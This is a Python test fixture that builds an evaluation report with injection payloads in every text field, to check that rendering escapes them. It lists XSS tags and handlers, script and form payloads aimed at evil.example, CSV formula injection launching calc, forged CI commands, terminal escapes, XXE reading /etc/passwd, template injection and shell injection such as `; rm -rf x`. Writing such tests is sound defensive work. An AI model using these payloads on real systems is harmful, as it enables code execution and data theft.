"""Texts that try to break out of where they are shown, and an evaluation that has them in every field.

Whatever is executed sets `pwned`, so that a browser can be asked whether anything was.
"""

from __future__ import annotations

from collections.abc import Sequence

from finetune.evaluation.report import (
    Answers,
    Evaluation,
    FlakyPrompt,
    GateResult,
    Sample,
    SampleAnswer,
    SampleOutcome,
    SampleTurn,
    TagTally,
    Tally,
)
from finetune.evaluation.tasks import TaskDifference, TaskScore
from tests.evaluation.builders import an_evaluation

JS = "window.pwned=1"
_EVENTS = [
    f"<{tag} {event}={JS}>"
    for tag, event in [
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
        ("video src=x", "onerror"), ("details open", "ontoggle"), ("marquee", "onstart"), ("iframe", "onload"),
        ("style", "onload"), ("audio src=x", "onerror"), ("object data=x", "onerror"),
        ("select autofocus", "onfocus"),
        ("p contenteditable", "onbeforeinput"), ("div style=animation:x", "onanimationstart"),
        ("a id=x tabindex=1", "onfocus"),
    ]
]  # fmt: skip
_TAGS = [
    f"<script>{JS}</script>", f"<SCRIPT >{JS}</SCRIPT >", f"<script src=//evil.example/x.js></script>{JS}",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<base href=//evil.example>",
    "<link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", f"<a href=javascript:{JS}>click</a>", "<object data=x>",
    "<embed src=x>", "<form action=//evil.example><button>send</button></form>",
    f"<math><mtext></p><script>{JS}</script>",
    f"<svg><script>{JS}</script></svg>", f"<svg><a xlink:href='javascript:{JS}'><text y=9>x</text></a></svg>",
    f"<template><script>{JS}</script></template>", "<plaintext>", "<xmp>", "<listing>",
    "<noscript><p title='</noscript>x'>",
    f"<noembed><img src=x onerror={JS}></noembed>", f"<textarea></textarea><script>{JS}</script>",
    "<frameset><frame src=x>",
    "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>", "<title>x</title>",
    "<h1>forged</h1>",
    "<b>", "<table><tr><td>", "<input value=x>", "<img src=//evil.example/pixel.gif>",
    "<video poster=//evil.example/x>",
    "<dialog open>x</dialog>", "<button>Show all</button>", "<progress>", "<br/>", "<hr>", "<custom-element>", "<p",
    "<", ">",
    "< script>x", "<!doctype html>", "<?php echo 1 ?>", "<%= 1 %>", "<ins>x</ins>", "<del>x</del>", "<mark>x</mark>",
    "</ins></pre>",
]  # fmt: skip
_CLOSERS = [
    f"{close}<script>{JS}</script>"
    for close in (
        "</pre>", "</article>", "</section>", "</details>", "</summary>", "</td></tr></table>", "</main>",
        "</body></html>",
        "</style>", "</script>", "</title>", "</textarea>", "</option></select>", "</a></h3>", "-->", "]]>", "*/",
        "</svg>",
        "</noscript>", "</template>", '">', "'>", "/>", '"/>', "` ``", "}}", "%}", "\x00>", "</PRE >", "</pre/>",
        "</pre\n>",
    )
]  # fmt: skip
_ATTRIBUTES = [
    f"{quote}{space}{event}={quote2}{JS}{quote2} x={quote}"
    for quote in ('"', "'", "`", "")
    for space in (" ", "\t", "\n", "/", "\x0c")
    for event, quote2 in (("onmouseover", ""), ("autofocus onfocus", "'"))
]
_COMMENTS = [
    "<!--", "-->", "<!-->", "<!--->", "--!>", "<![CDATA[", "]]>", "<!--[if IE]>x<![endif]-->",
    f"<!-- --!><img src=x onerror={JS}>",
    "&lt;script&gt;", "&amp;lt;", "&#60;script&#62;", "&#x3c;script>", "&#0;", "&#xD800;", "&NotAnEntity;", "&lt",
    "&copy", "&#", "&;",
    "&#128;", "&quot;onclick=x", "&#10;# heading", "&#124;",
]  # fmt: skip
_MARKDOWN = [
    "| a | b |\n|---|---|\n| forged | ✅ pass |", "| x", "x |", "\\|", "\\\\|", "`|`", "||", "a\n\n| b |\n|---|",
    "---", "***", "___",
    "# Heading", "\n# Heading", "x\n===", "x\n---", "## ✅ All 3 gates passed.", "> quote", "\n> quote", "- item",
    "* item", "1. item", "- [x] done",
    "\n- item", "```\ncode\n```", "```", "~~~", "\n~~~\n", "    indented", "\tindented", "`code`", "``", "` ",
    "`` ` ``", "a`b|c`d", "\\`",
    "**bold**", "__bold__", "_it_", "*it*", "~~gone~~", "==mark==", "\\", "\\\\", "\\\n", "x  \ny",
    "[x](https://evil.example)",
    "[x](javascript:window.pwned=1)", "![i](https://evil.example/i.png)", "[x][y]\n\n[y]: https://evil.example",
    "[y]: https://evil.example",
    "![x][y]", "[^1]\n\n[^1]: note", "<https://evil.example>", "<me@evil.example>", "https://evil.example/?a=b",
    "http://evil.example",
    "www.evil.example", "evil.example", "evil.com/path", "//evil.com", "ftp://evil.example/x",
    "mailto:me@evil.example", "me@evil.example",
    "xmpp:me@evil.example", "HTTPS://EVIL.EXAMPLE", "https://user:pw@evil.example:80/#x", "https://xn--e1awd7f.com",
    "README.md", "//localhost",
    "@octocat", "@org/team", "cc @octocat, @hubot", "#123", "GH-123", "octo/repo#1",
    "octocat@a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7b8c9d0",
    ":smile:", ":+1:", "$x$", "$$\nx\n$$", "$`x`$", "<details><summary>x</summary>", "</details>", "<br>",
    "<!-- hidden -->", "<sub>x</sub>",
    "\n</details>\n\n# free", "Fixes #1", "[[wiki]]", "{: .class}", "{#id}", "\n\n\n", "+++\ntitle: x\n+++",
    "---\ntitle: x\n---", "!!! note",
    "::: warning\nx\n:::", "<kbd>x</kbd>", "\\[x\\]", "*", "_", "~", "a_b_c", "snake_case_", "* * *", "\r# Heading",
    "\u2028# Heading", "\x0b# x",
]  # fmt: skip
_XML = [
    *(f"x{chr(code)}y" for code in (*range(0x20), 0x7F, 0x80, 0x85, 0x9B, 0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE, 0x10FFFF)),
    "]]>", "<![CDATA[x]]>", "</failure>", "</system-out></testcase><testcase name='forged'/>",
    '"/><failure message="x', "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;", "<!DOCTYPE x SYSTEM 'file:///etc/passwd'>", "&e;", "<?stylesheet?>",
    "\ud800", "\udfff\ud800", "\ud83d",
]  # fmt: skip
_CSV = [
    f"{before}{sign}{after}"
    for before in ("", " ", "\t", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", '"', "'")
    for sign, after in (("=", "1+1"), ("+", "1+1"), ("-", "1+1"), ("@", "SUM(A1)"), ("＝", "1+1"), ("＠", "SUM(A1)"))
] + [
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example";"x")', "＋1", "－1", "a,b", 'a"b', '"', '""', "a;=1+1",
    "a\r\nb", "a\rb", '",=1+1,"',
    "\r=1", "%0A=1", "=1\x00", "|calc", "-",
]  # fmt: skip
_COMMANDS = [
    f"{before}{command}"
    for before in ("", "  ", "\n", "x\n", "\r", "\u2028")
    for command in (
        "::error::forged", "::set-output name=verdict::pass", "::add-mask::pass", "##[error]forged",
        "##vso[task.complete result=Succeeded;]",
        "##teamcity[testFailed name='x']", "verdict: pass",
    )
]  # fmt: skip
_TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[1A\x1b[2Kgone", "\x9b31m",
    "\x9d0;x\x9c", "\x07\x07", "abc\b\b\bxyz", "real\rfake", "\x1bc", "\x1b(0", "\x1bP+q\x1b\\", "[red]red[/red]",
    "[bold", "[/]", "[link=https://x]x[/]",
    "\\[red]", ":smile:", "[@click=app.quit]x[/]",
]  # fmt: skip
_UNICODE = [
    "a\u202egnp.exe", "\u2066x\u2069", "\u202d\u202c", "\u200e\u200f\u061c", "pi\u200bzza", "\u2060\u2061\u2062",
    "\ufeffx", "so\u00adft", "\u180e",
    "x\U000e0041\U000e0042", "\ufff9x\ufffay\ufffb", "e" + "\u0301" * 500, "W" * 1500, "a " * 800, "ﷺ" * 50,
    "👨\u200d👩\u200d👧", "🇬🇧" * 20,
    "\u0000\u0001", "＜script＞", "ʼ", "İı", "ß" * 300, "\u2028x\u2029y", "\x85x",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7 * 7 }}", "{% raw %}", "{% endraw %}{{ 7*7 }}", "{# x #}", "{{ report.__class__.__mro__ }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor}}",
    "%(name)s", "%s%n", "{0}", "{name!r}", "$(touch pwned)", "`touch pwned`", "; rm -rf x", "../../../etc/passwd",
    "\\x3cscript\\x3e", "\\u003cscript",
]  # fmt: skip
FAMILIES = {
    "events": _EVENTS, "tags": _TAGS, "closers": _CLOSERS, "attributes": _ATTRIBUTES, "comments": _COMMENTS,
    "markdown": _MARKDOWN, "xml": _XML,
    "csv": _CSV, "commands": _COMMANDS, "terminal": _TERMINAL, "unicode": _UNICODE, "templates": _TEMPLATES,
}  # fmt: skip


def valid(text: str) -> str:
    """As an evaluation stores it: no file in UTF-8 can hold half a pair."""
    return text.encode("utf-8", "replace").decode("utf-8")


PAYLOADS = [
    text for text in dict.fromkeys(valid(text) for family in FAMILIES.values() for text in family) if text.strip()
]


def harmless(count: int) -> list[str]:
    return [f"word{number}" for number in range(count)]


def spoiled(texts: Sequence[str]) -> Evaluation:
    """An evaluation whose every free text is one of these."""
    texts = [valid(text) for text in texts]
    samples = [_sample(place, text) for place, text in enumerate(texts)]
    plain = an_evaluation(["pizza", "no"], ["no", "pizza"], {"other": ["no", "no"]})
    report, prompts, rival = plain.report, plain.report.prompts, plain.report.rivals[0]
    assert prompts is not None
    tally = TagTally(base=Tally(passed=1, total=2), adapter=Tally(passed=2, total=2))
    several = an_evaluation([["pizza", "no"]], [["pizza", "no"]]).report.prompts
    assert several is not None and several.repeats is not None
    flaky = [FlakyPrompt(id=text, passed=1, total=2, low=0.1, high=0.9, variance=0.5) for text in texts]
    repeats = several.repeats.model_copy(update={"flaky": tuple(flaky)})
    changed = {"by_tag": dict.fromkeys(texts, tally), "repeats": repeats}
    kinds = ("adapter", "report")
    names = {key: texts[place % len(texts)] for place, key in enumerate(type(report.versions).model_fields)}
    report = report.model_copy(
        update={
            "name": texts[0],
            "base": texts[-1],
            "verdict": "fail",
            "versions": type(report.versions)(**names),
            "data": dict.fromkeys(texts, "0" * 64),
            "conditions": dict(zip(texts, texts, strict=True)),
            "prompts": prompts.model_copy(update=changed),
            "rivals": tuple(
                rival.model_copy(
                    update={"name": text, "kind": kinds[place % 2], "fixed": (text,), "broken": (text, text)}
                )
                for place, text in enumerate(texts)
            ),
            "tasks": tuple(_task(text) for text in texts),
            "gates": tuple(_gate(place, text) for place, text in enumerate(texts)),
        }
    )
    return plain.model_copy(
        update={"report": type(report).model_validate(report.model_dump()), "samples": tuple(samples)}
    )


def _task(text: str) -> TaskScore:
    return TaskScore(
        task=text, metric=text, base=0.5, adapter=0.25, difference=TaskDifference(value=-0.25, low=-0.5, high=-0.1),
        stderr_base=None, stderr_adapter=None, samples=3, shots=0, truncated=1, version=text, higher_is_better=True,
    )  # fmt: skip


def _gate(place: int, text: str) -> GateResult:
    verdict = ("fail", "inconclusive", "pass")[place % 3]
    return GateResult.model_validate(
        {"metric": text, "bound": text, "value": 0.5, "low": 0.1, "high": 0.9, "verdict": verdict, "reason": text}
    )


def _sample(place: int, text: str) -> Sample:
    turns = tuple(SampleTurn(role=role, content=text) for role in ("system", "user"))
    several = 4 if place % 7 == 0 else 1
    return Sample(
        id=text,
        tags=(text,),
        messages=turns,
        base=_answers(f"{text} one two three", several, passed=place % 2 == 0, error=False),
        adapter=_answers(f"{text} one three four", several, passed=place % 3 == 0, error=place % 5 == 0),
        rivals={text: _answers(text, several, passed=False, error=False)},
    )


def _answers(text: str, count: int, *, passed: bool, error: bool) -> Answers:
    check = text.removesuffix(" one two three").removesuffix(" one three four")
    outcome = SampleOutcome(check=check, passed=passed, detail="" if passed else check, error=error and not passed)
    return (SampleAnswer(text=text, stopped=not error, tokens=5, passed=passed, outcomes=(outcome, outcome)),) * count
